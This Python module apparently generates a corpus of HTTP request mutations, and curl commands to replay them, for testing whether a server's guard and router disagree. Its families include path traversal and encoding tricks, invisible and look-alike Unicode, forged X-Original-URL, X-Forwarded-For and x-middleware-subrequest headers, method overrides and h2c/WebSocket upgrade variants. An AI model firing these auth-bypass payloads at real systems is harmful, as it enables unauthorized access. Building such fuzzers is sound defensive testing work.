"""Odd requests for a plain one: every way in which a guard and a router are known to disagree.

Each mutation writes the path of a request as somebody might to get past the guard and still
reach the handler. What one server refuses another passes on, so none is left out as impossible.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Final, NamedTuple
from unicodedata import normalize

__all__ = ["HANDSHAKE", "KINDS", "Mutation", "mutations"]

Fields = tuple[tuple[str, str], ...]

HANDSHAKE: Final[Fields] = (
    ("Connection", "Upgrade"),
    ("Upgrade", "websocket"),
    ("Sec-WebSocket-Version", "13"),
    ("Sec-WebSocket-Key", "AQIDBAUGBwgJCgsMDQ4PEA=="),
)
"""The fields of a WebSocket handshake (RFC 6455 §4.1)."""


class Mutation(NamedTuple):
    """One request as it goes over the wire. `target` is latin-1: a character is a byte."""

    kind: str
    method: str
    target: str
    fields: Fields = ()
    host: str = "localhost"

    @property
    def line(self) -> str:
        """The request line, and the fields that matter, on one line."""
        shown = [f"{name}: {value}" for name, value in self.fields]
        if self.host != "localhost":
            shown.insert(0, f"Host: {self.host}")
        return " | ".join([f"{self.method} {_visible(self.target)} HTTP/1.1", *shown])

    def raw(self, authorization: str = "") -> bytes:
        """Return the bytes of the request."""
        lines = [f"{self.method} {self.target} HTTP/1.1", f"Host: {self.host}"]
        lines += [f"{name}: {value}" for name, value in self.fields]
        if authorization:
            lines.append(f"Authorization: {authorization}")
        return "\r\n".join([*lines, "", ""]).encode("latin-1")

    def curl(self, server: str = "http://localhost:8000", *, credentials: bool = False) -> str:
        """Return a command for a POSIX shell with which the request can be sent again."""
        words = ["curl --http1.1 --path-as-is", "-I" if self.method == "HEAD" else "-i"]
        if self.method not in {"GET", "HEAD"}:
            words.append(f"-X {_quoted(self.method)}")
        words.append(f"--request-target {_quoted(self.target)}")
        fields = (("Host", self.host), *self.fields)
        words += [f"-H {_quoted(f'{name}: {value}')}" for name, value in fields]
        if credentials:
            words.append('-H "Authorization: Bearer $TOKEN"')
        return " ".join([*words, server])


def mutations(method: str, path: str, public: str = "/") -> tuple[Mutation, ...]:
    """Return the mutations of a plain request, in an order that never changes, each once.

    `method` is "WS" for a WebSocket handshake. `path` is plain: percent-decoded and canonical.
    `public` is the path of a route that anybody may call, which some of them pretend to be.
    """
    plain = _encoded(path)
    opened = _encoded(public).rstrip("/")
    verb, fields = ("GET", HANDSHAKE) if method == "WS" else (method, ())
    found: dict[tuple[object, ...], Mutation] = {}

    def add(each: Mutation) -> None:
        if each[1:] != (verb, plain, fields, "localhost"):
            found.setdefault(each[1:], each)

    for kind, targets in _TARGETS.items():
        for target in targets(plain, opened):
            if target and not _breaks_the_line(target):
                add(Mutation(kind, verb, target, fields))
    for each in _requests(verb, plain, opened or "/", fields):
        add(each)
    return tuple(found.values())


def _encoded(path: str) -> str:
    """Percent-encode what a client would (RFC 3986 §3.3)."""
    data = path.encode("utf-8", "surrogatepass")
    return "".join(chr(byte) if chr(byte) in _AS_IT_IS else f"%{byte:02X}" for byte in data)


_AS_IT_IS: Final = frozenset(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~!$&'()*+,=:@/"
)
_ALL = tuple(f"%{byte:02x}" for byte in (*range(33), 0x7F))
_breaks_the_line = re.compile(r"[ \r\n]").search


def _visible(text: str) -> str:
    return "".join(each if "!" <= each <= "~" else f"\\x{ord(each):02x}" for each in text)


def _quoted(text: str) -> str:
    """Quote for a POSIX shell; bytes that do not print as `$'...'` has them (POSIX.1-2024)."""
    if all(" " <= each <= "~" for each in text):
        return "'" + text.replace("'", "'\\''") + "'"
    escaped = text.replace("\\", "\\\\").replace("'", "\\'")
    return "$'" + re.sub(r"[^ -~]", lambda each: f"\\x{ord(each[0]):02x}", escaped) + "'"


def _places(path: str) -> list[int]:
    """Where the slashes stand."""
    return [place for place, each in enumerate(path) if each == "/"]


def _swapped(path: str, other: str) -> Iterator[str]:
    """Each slash replaced by `other`, and all of them."""
    for place in _places(path):
        yield path[:place] + other + path[place + 1 :]
    yield path.replace("/", other)


def _slashes(path: str, public: str) -> Iterator[str]:
    for other in ("//", "///", "\\", "/\\", "\\/", "%2f", "%2F", "/%2f", "%2f/", "%5c", "/%5c"):
        yield from _swapped(path, other)
    for end in ("/", "//", "///", "\\", "%2f", "%2F", "%5c", "/%2f", "/%5c", "%2f%2f"):
        yield path + end
    for start in ("////", "/%2f%2f", "%2f%2f", "/\\/", "\\\\"):
        yield start + path[1:]
    yield path[1:]
    yield public + "/" + path
    yield public + "%2f" + path[1:]


def _dots(path: str, public: str) -> Iterator[str]:
    for step in ("/.", "/..", "/...", "/%2e", "/%2E%2e", "/.%2e", "/%2e.", "/..;", "/.;", "/..;x"):
        yield step + path
        yield path + step
        yield path + step + "/"
        for place in _places(path)[1:]:
            yield path[:place] + step + path[place:]
    ups = ("/..", "/%2e%2e", "/%2E%2E", "/.%2e", "/%2e.", "%2f..", "%2f%2e%2e", "\\..", "%5c..")
    depth = max(public.count("/"), 1)
    last = path[path.rfind("/") :]
    for up in (*ups, "/..;", "/..;x=1", "/..%00", "/..%20", "/..%09", "/%252e%252e", "/..%c0%af"):
        yield "/x" + up + path
        yield public + up * depth + path
        yield public + "/x" + up * (depth + 1) + path
        yield path + up + last
        yield path + "/x" + up
        yield "/x" + up + "%2f" + path[1:]
    yield public + "/." + path
    yield "/.//" + path[1:]
    yield "/../../.." + path


def _encodings(path: str, _: str) -> Iterator[str]:
    letters = [place for place, each in enumerate(path) if each.isalnum()]
    for place in dict.fromkeys((*letters[:3], *letters[-2:])):
        before, each, after = path[:place], path[place], path[place + 1 :]
        code = ord(each)
        yield f"{before}%{code:02x}{after}"
        yield f"{before}%{code:02X}{after}"
        yield f"{before}%25{code:02x}{after}"
        yield f"{before}%2525{code:02x}{after}"
        yield f"{before}%u00{code:02x}{after}"
        yield f"{before}%U00{code:02X}{after}"
        yield f"{before}\\u00{code:02x}{after}"
        yield f"{before}&#{code};{after}"
        yield f"{before}%{0xC0 | code >> 6:02x}%{0x80 | code & 63:02x}{after}"  # overlong
        yield f"{before}%e0%{0x80 | code >> 6:02x}%{0x80 | code & 63:02x}{after}"
        for bad in ("%ff", "%c0", "%80", "%ed", "%c3", "%f5%80%80%80", "%ed%a0%80", "\xff", "\x80"):
            yield before + bad + each + after
        for broken in ("%", "%a", "%zz", "%%", "%0"):
            yield before + broken + each + after
    yield "".join(f"%{ord(each):02x}" if each != "/" else each for each in path)
    yield "/" + "".join(f"%{ord(each):02x}" for each in path[1:])
    yield "".join(f"%{ord(each):02x}" for each in path)
    yield "".join(f"%25{ord(each):02x}" if each != "/" else each for each in path)
    yield from _swapped(path, "%252f")
    yield from _swapped(path, "%c0%af")
    yield from _swapped(path, "%u002f")
    for end in ("%", "%2", "%zz", "%ff", "%c0", "%80", "%c3%28", "\xff", "\xc3\xa9", "+", "%2b"):
        yield path + end


def _controls(path: str, _: str) -> Iterator[str]:
    end = path.rfind("/")
    for escape in (*_ALL, "%0d%0a", "%0a%0a", "%c2%85", "%c2%a0", "%85", "%a0"):
        yield path + escape
        yield "/" + escape + path[1:]
        yield path[: end + 1] + escape + path[end + 1 :]
        yield path[:end] + escape + path[end:]
        yield path[:-1] + escape + path[-1:]
        yield escape + path
    for raw in ("\t", "\x00", "\x0b", "\x0c", "\x1f", "\x7f", "\xa0", "\x85"):
        yield path + raw
        yield path[:2] + raw + path[2:]
        yield "/" + raw + path[1:]


_INVISIBLE = (
    *("\u200b", "\u200c", "\u200d", "\ufeff", "\u00ad", "\u2060", "\u202e", "\u2066", "\u061c"),
    *("\u180e", "\u034f", "\u115f", "\u3164", "\ufe0f", "\U000e0061", "\ufffd", "\u0301"),
)
_BLANK = ("\u00a0", "\u2000", "\u2028", "\u2029", "\u3000", "\u1680", "\u0085")
_LIKE_A_SLASH = ("\uff0f", "\u2215", "\u2044", "\u29f8", "\uff3c", "\ufe68", "\u2216")
_LIKE_A_DOT = ("\uff0e", "\u2024", "\ufe52", "\u3002", "\uff61")
_LOOK_ALIKE = {
    "s": "\u017f",
    "i": "\u0131",
    "k": "\u212a",
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u03bf",
}


def _unicode(path: str, public: str) -> Iterator[str]:
    for each in (*_INVISIBLE, *_BLANK):
        text = _encoded(each)
        yield path + text
        yield "/" + text + path[1:]
        yield path[:3] + text + path[3:]
        yield path + "/" + text
    for each in _LIKE_A_SLASH:
        yield from _swapped(path, _encoded(each))
        yield path + _encoded(each)
        yield public + _encoded(each) + path[1:]
    for each in _LIKE_A_DOT:
        yield "/" + _encoded(each) + path
        yield "/x/" + _encoded(each) * 2 + path
        yield public + "/" + _encoded(each) * 2 + path
    yield public + "/" + _encoded("\u2025") + path  # one character that becomes two dots
    for letter, other in _LOOK_ALIKE.items():
        if letter in path:
            yield path.replace(letter, _encoded(other), 1)
    letters = [place for place, each in enumerate(path) if each.isalnum() and each != "/"]
    for place in dict.fromkeys((*letters[:1], *letters[-1:])):
        wide = chr(ord(path[place]) + 0xFEE0)
        yield path[:place] + _encoded(wide) + path[place + 1 :]
        yield path[:place] + wide.encode("utf-8").decode("latin-1") + path[place + 1 :]
        yield path[: place + 1] + _encoded("\u0301") + path[place + 1 :]
    decomposed = normalize("NFD", "\u00e9")
    yield path + _encoded(decomposed)


def _case(path: str, _: str) -> Iterator[str]:
    yield path.upper()
    yield path.title()
    yield path.swapcase()
    yield path[:1] + path[1:2].swapcase() + path[2:]
    yield path[:-1] + path[-1:].swapcase()


def _suffixes(path: str, public: str) -> Iterator[str]:
    ends = (
        *(";", ";x", ";x=1", ";jsessionid=1", "/;", "/;x", "/;/", "%3b", "%3bx", "%3bx=1/y"),
        *("?", "??", "?x", "?/", "%3f", "%3fx", "?;", "?a=/../..", "?x=%0a"),
        *(
            ".",
            "..",
            "~",
            ",",
            ":",
            "*",
            "$",
            "!",
            "'",
            "(",
            ")",
            "=",
            "@",
            "&",
            "+",
            "-",
            "_",
            '"',
        ),
        *("|", "^", "`", "<", ">", "[", "]", "{", "}", "%3c", "%3e", "%7c", "%22"),
        *(
            ".json",
            ".html",
            ".css",
            ".js",
            "/index.html",
            "/index",
            "/x",
            "/x/y",
            "/.css",
            "/.json",
        ),
        *(".format", "/**", "/*", "*", "/%2a", "%0a.css", "%00.css", ";.css", "%3b.css", "?.css"),
        *(
            "%20",
            "%20/",
            "/%20",
            "%20%20",
            "%09",
            "%09/",
            "%20x",
            "+",
            "/+",
            "::$DATA",
            "@@",
            "/@@x",
        ),
    )
    for end in ends:
        yield path + end
    first = path.find("/", 1)
    if first > 0:
        for inner in (";", ";x", ";x=1", "%3b", "%3bx", ".", "%20", "%0a", "%00", "?", "%3f"):
            yield path[:first] + inner + path[first:]
    yield path + "?" + public
    yield public + "?" + path
    yield public + "?/.." + path
    yield public + ";" + path
    yield public + "/;" + path
    yield public + "%3f/.." + path


_DIGITS = ("\u0661", "\u06f1", "\u0967", "\uff11", "\U0001d7cf", "\u00b9", "\u2460")


def _parameters(path: str, _: str) -> Iterator[str]:
    """Texts that some converter takes for the same number, or for another one."""
    for match in re.finditer(r"(?<=/)[0-9]+(?=/|\Z)", path):
        number = match[0]
        texts = [*map(_encoded, _DIGITS), *(_encoded(number + each) for each in _DIGITS)]
        texts += [f"{sign}{number}" for sign in ("+", "-", "0", "00", "%2b", "%2d", "%20", "%09")]
        texts += [f"{number}{end}" for end in ("_0", ".0", "e0", "%20", "%09", "%0a", "%c2%a0")]
        texts += ["0x" + number, number + "L", "%c2%a0" + number, "1e1", "NaN", "Infinity", "-0"]
        for text in texts:
            yield path[: match.start()] + text + path[match.end() :]


_ROOTS = ("/svc", "/SVC", "/svc%2f", "/sv%63", "/svc;x", "/svc/.", "//svc", "/svc/svc", "/svc/")


def _prefixes(path: str, public: str) -> Iterator[str]:
    junk = ("*", "x", ":", "%00", "\\", "lic", "@", ".", "..", "~", "&", "%20", "%0a", "%ff", "%2e")
    for start in (*junk, "x:", "x/", "%2f", "%3f", "%23", "+", "-", "%c2%a0", "%e2%80%8b"):
        yield start + path
        yield "/" + start + path
        yield "/" + start + path[1:]
    for start in ("/x", "/x/y", "/static", "/api", "/v1", "/index.php", "/app", "/..", "/abc"):
        yield start + path
    yield public + path
    yield public + path[1:]
    yield public + "x" + path


def _root_paths(path: str, public: str) -> Iterator[str]:
    for root in _ROOTS:
        yield root + path
        yield root + path[1:]
        yield public + root + path
        yield "/x" + root + path
        yield root + "/" + path
        yield path + root
    yield "/" + path + "/svc" + path
    yield "/svc/../.." + path
    yield "/svc" + public + "/.." + path


def _absolute(path: str, public: str) -> Iterator[str]:
    hosts = ("localhost", "evil.example", "localhost:80", "u@localhost", "LOCALHOST", "", "[::1]")
    for scheme in ("http", "https", "HTTP", "x", "file", "ws", "javascript"):
        for host in hosts if scheme == "http" else (*hosts[:2], ""):
            yield f"{scheme}://{host}{path}"
    yield "http:" + path
    yield "http:/" + path
    yield "http:///" + path
    yield "//localhost" + path
    yield "///localhost" + path
    yield "http://localhost?" + path
    yield "http://localhost#" + path
    yield "http://localhost" + public + "/.." + path
    yield "http://localhost/" + path
    yield "http%3a//localhost" + path
    yield "http://localhost%2f" + path
    yield "http:\\\\localhost" + path
    yield "http://" + path
    yield "localhost" + path
    yield "localhost:80" + path
    yield "*"
    yield "*" + path


def _fragments(path: str, public: str) -> Iterator[str]:
    for end in ("#", "#x", "#/", "%23", "%23x", "#?x", "?#x", "/#", "#" + public, "#/../" + public):
        yield path + end
    yield public + "#" + path
    yield public + "/../#" + path
    yield public + "#/.." + path
    yield public + "%23/.." + path
    yield "#" + path
    yield "/#" + path


_TARGETS: Final[dict[str, Callable[[str, str], Iterator[str]]]] = {
    "slashes": _slashes,
    "dots": _dots,
    "encodings": _encodings,
    "controls": _controls,
    "unicode": _unicode,
    "case": _case,
    "suffixes": _suffixes,
    "parameters": _parameters,
    "prefixes": _prefixes,
    "root paths": _root_paths,
    "absolute form": _absolute,
    "fragments": _fragments,
}

KINDS: Final = (*_TARGETS, "methods", "headers", "upgrade")
"""The classes of mutations."""

_METHODS = (
    *("GET", "HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "QUERY"),
    *("PROPFIND", "MKCOL", "COPY", "MOVE", "LOCK", "REPORT", "PURGE", "FOO", "ANY", "PROXY", "WS"),
    *("GETX", "X-GET", "*", "_", "GET%20", "G\xc9T"),
)
# Fields that say "the path is another one"; somebody in front, or inside, may believe them.
_PATH_FIELDS = (
    *("X-Original-URL", "X-Rewrite-URL", "X-Original-URI", "X-Forwarded-Uri", "X-Forwarded-Path"),
    *(
        "X-Envoy-Original-Path",
        "X-Vhm-Root",
        "Path-Info",
        "PATH_INFO",
        "Request-URI",
        "REQUEST_URI",
    ),
    *("X-Request-URI", "X-Replaced-Path", "X-Url", "Raw-URI"),
)
_PREFIX_FIELDS = (
    *("X-Forwarded-Prefix", "X-Script-Name", "SCRIPT_NAME", "Script-Name", "X-Forwarded-Root"),
    *("X-Root-Path", "Root-Path", "X-Vhm-Root", "X-Vhm-Host", "X-Forwarded-Script-Name"),
)
_METHOD_FIELDS = (
    *("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method", "Request-Method"),
)
_TRUST_FIELDS: Fields = (
    ("x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware"),
    ("X-Forwarded-For", "127.0.0.1"),
    ("X-Real-IP", "127.0.0.1"),
    ("X-Remote-User", "admin"),
    ("Remote-User", "admin"),
    ("REMOTE_USER", "admin"),
    ("X-Forwarded-User", "admin"),
    ("X-Auth-Roles", "admin"),
    ("authz", "admin"),
    ("X-Forwarded-Proto", "https"),
    ("X_Forwarded_Proto", "https"),
    ("Forwarded", "for=127.0.0.1;host=localhost;proto=https"),
    ("X-Internal", "1"),
    ("X-Authenticated", "true"),
)


def _requests(method: str, path: str, public: str, fields: Fields) -> Iterator[Mutation]:
    """Yield what is not only another target."""
    if not fields:
        yield from _methods(method, path)
        yield from _upgrades(method, path)
    for name in _PATH_FIELDS:
        for target, value in ((public, path), (path, public), ("/", path), ("/x", path)):
            yield Mutation("headers", method, target, (*fields, (name, value)))
    for name in _PREFIX_FIELDS:
        for value in (public, "/x", "/", "/svc", path, path[: path.rfind("/")] or "/"):
            yield Mutation("headers", method, path, (*fields, (name, value)))
            yield Mutation("headers", method, value.rstrip("/") + path, (*fields, (name, value)))
    for name, value in _TRUST_FIELDS:
        yield Mutation("headers", method, path, (*fields, (name, value)))
    for host in (
        *("evil.example", "LOCALHOST", "localhost.", "localhost:80", "localhost" + public + "?"),
        *("localhost" + public + "#", "x/public?", "localhost\\" + public, "admin.localhost", ""),
        *("localhost, evil.example", "u@localhost", "[::1]", "localhost:x"),
    ):
        yield Mutation("headers", method, path, fields, host)
    for host in ("localhost" + path + "?", "localhost" + path + "#", "x" + path):
        yield Mutation("headers", method, public, fields, host)


def _methods(method: str, path: str) -> Iterator[Mutation]:
    spelled = (method.lower(), method.title(), method.swapcase(), method[:1].lower() + method[1:])
    for each in (*spelled, *_METHODS, *map(str.lower, _METHODS[:7])):
        yield Mutation("methods", each, path)
    for name in _METHOD_FIELDS:
        for sent in ("GET", "POST", "HEAD", "OPTIONS"):
            yield Mutation("headers", sent, path, ((name, method),))
            yield Mutation("headers", sent, path, ((name, "OPTIONS"),))
    for sent in ("GET", "POST"):
        yield Mutation("methods", sent, f"{path}?_method={method}")
        yield Mutation("methods", sent, f"{path}?X-HTTP-Method-Override={method}")
    preflight = (("Origin", "https://evil.example"), ("Access-Control-Request-Method", method))
    for sent in ("OPTIONS", "options", method):
        yield Mutation("methods", sent, path, preflight)
        yield Mutation("methods", sent, path, preflight[1:])


def _upgrades(method: str, path: str) -> Iterator[Mutation]:
    connection, upgrade, version, key = HANDSHAKE
    variants: tuple[Fields, ...] = (
        HANDSHAKE,
        (connection, upgrade),
        (upgrade,),
        (connection, upgrade, key),
        (key,),
        (upgrade, key),
        (version, key),
        (connection, ("Upgrade", "WebSocket"), version, key),
        (("Connection", "keep-alive, Upgrade"), upgrade, version, key),
        (connection, ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA")),
        (("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMA")),
        (connection, ("Upgrade", "websocket, h2c"), version, key),
        (connection, ("Upgrade", "foo/2, websocket"), version, key),
        (connection, upgrade, ("Sec-WebSocket-Version", "8"), key),
        (*HANDSHAKE, ("Sec-WebSocket-Protocol", "bearer, x")),
        (("Connection", "authorization"),),
        (("Connection", "close, authorization, x-forwarded-for"),),
    )
    for fields in variants:
        yield Mutation("upgrade", method, path, fields)
    for target in (
        "/" + path,
        "//localhost" + path,
        path + "/",
        path + "%0a",
        path.upper(),
        path[1:],
    ):
        yield Mutation("upgrade", method, target, HANDSHAKE)
    for other in ("POST", "HEAD", "OPTIONS", "get"):
        yield Mutation("upgrade", other, path, HANDSHAKE)
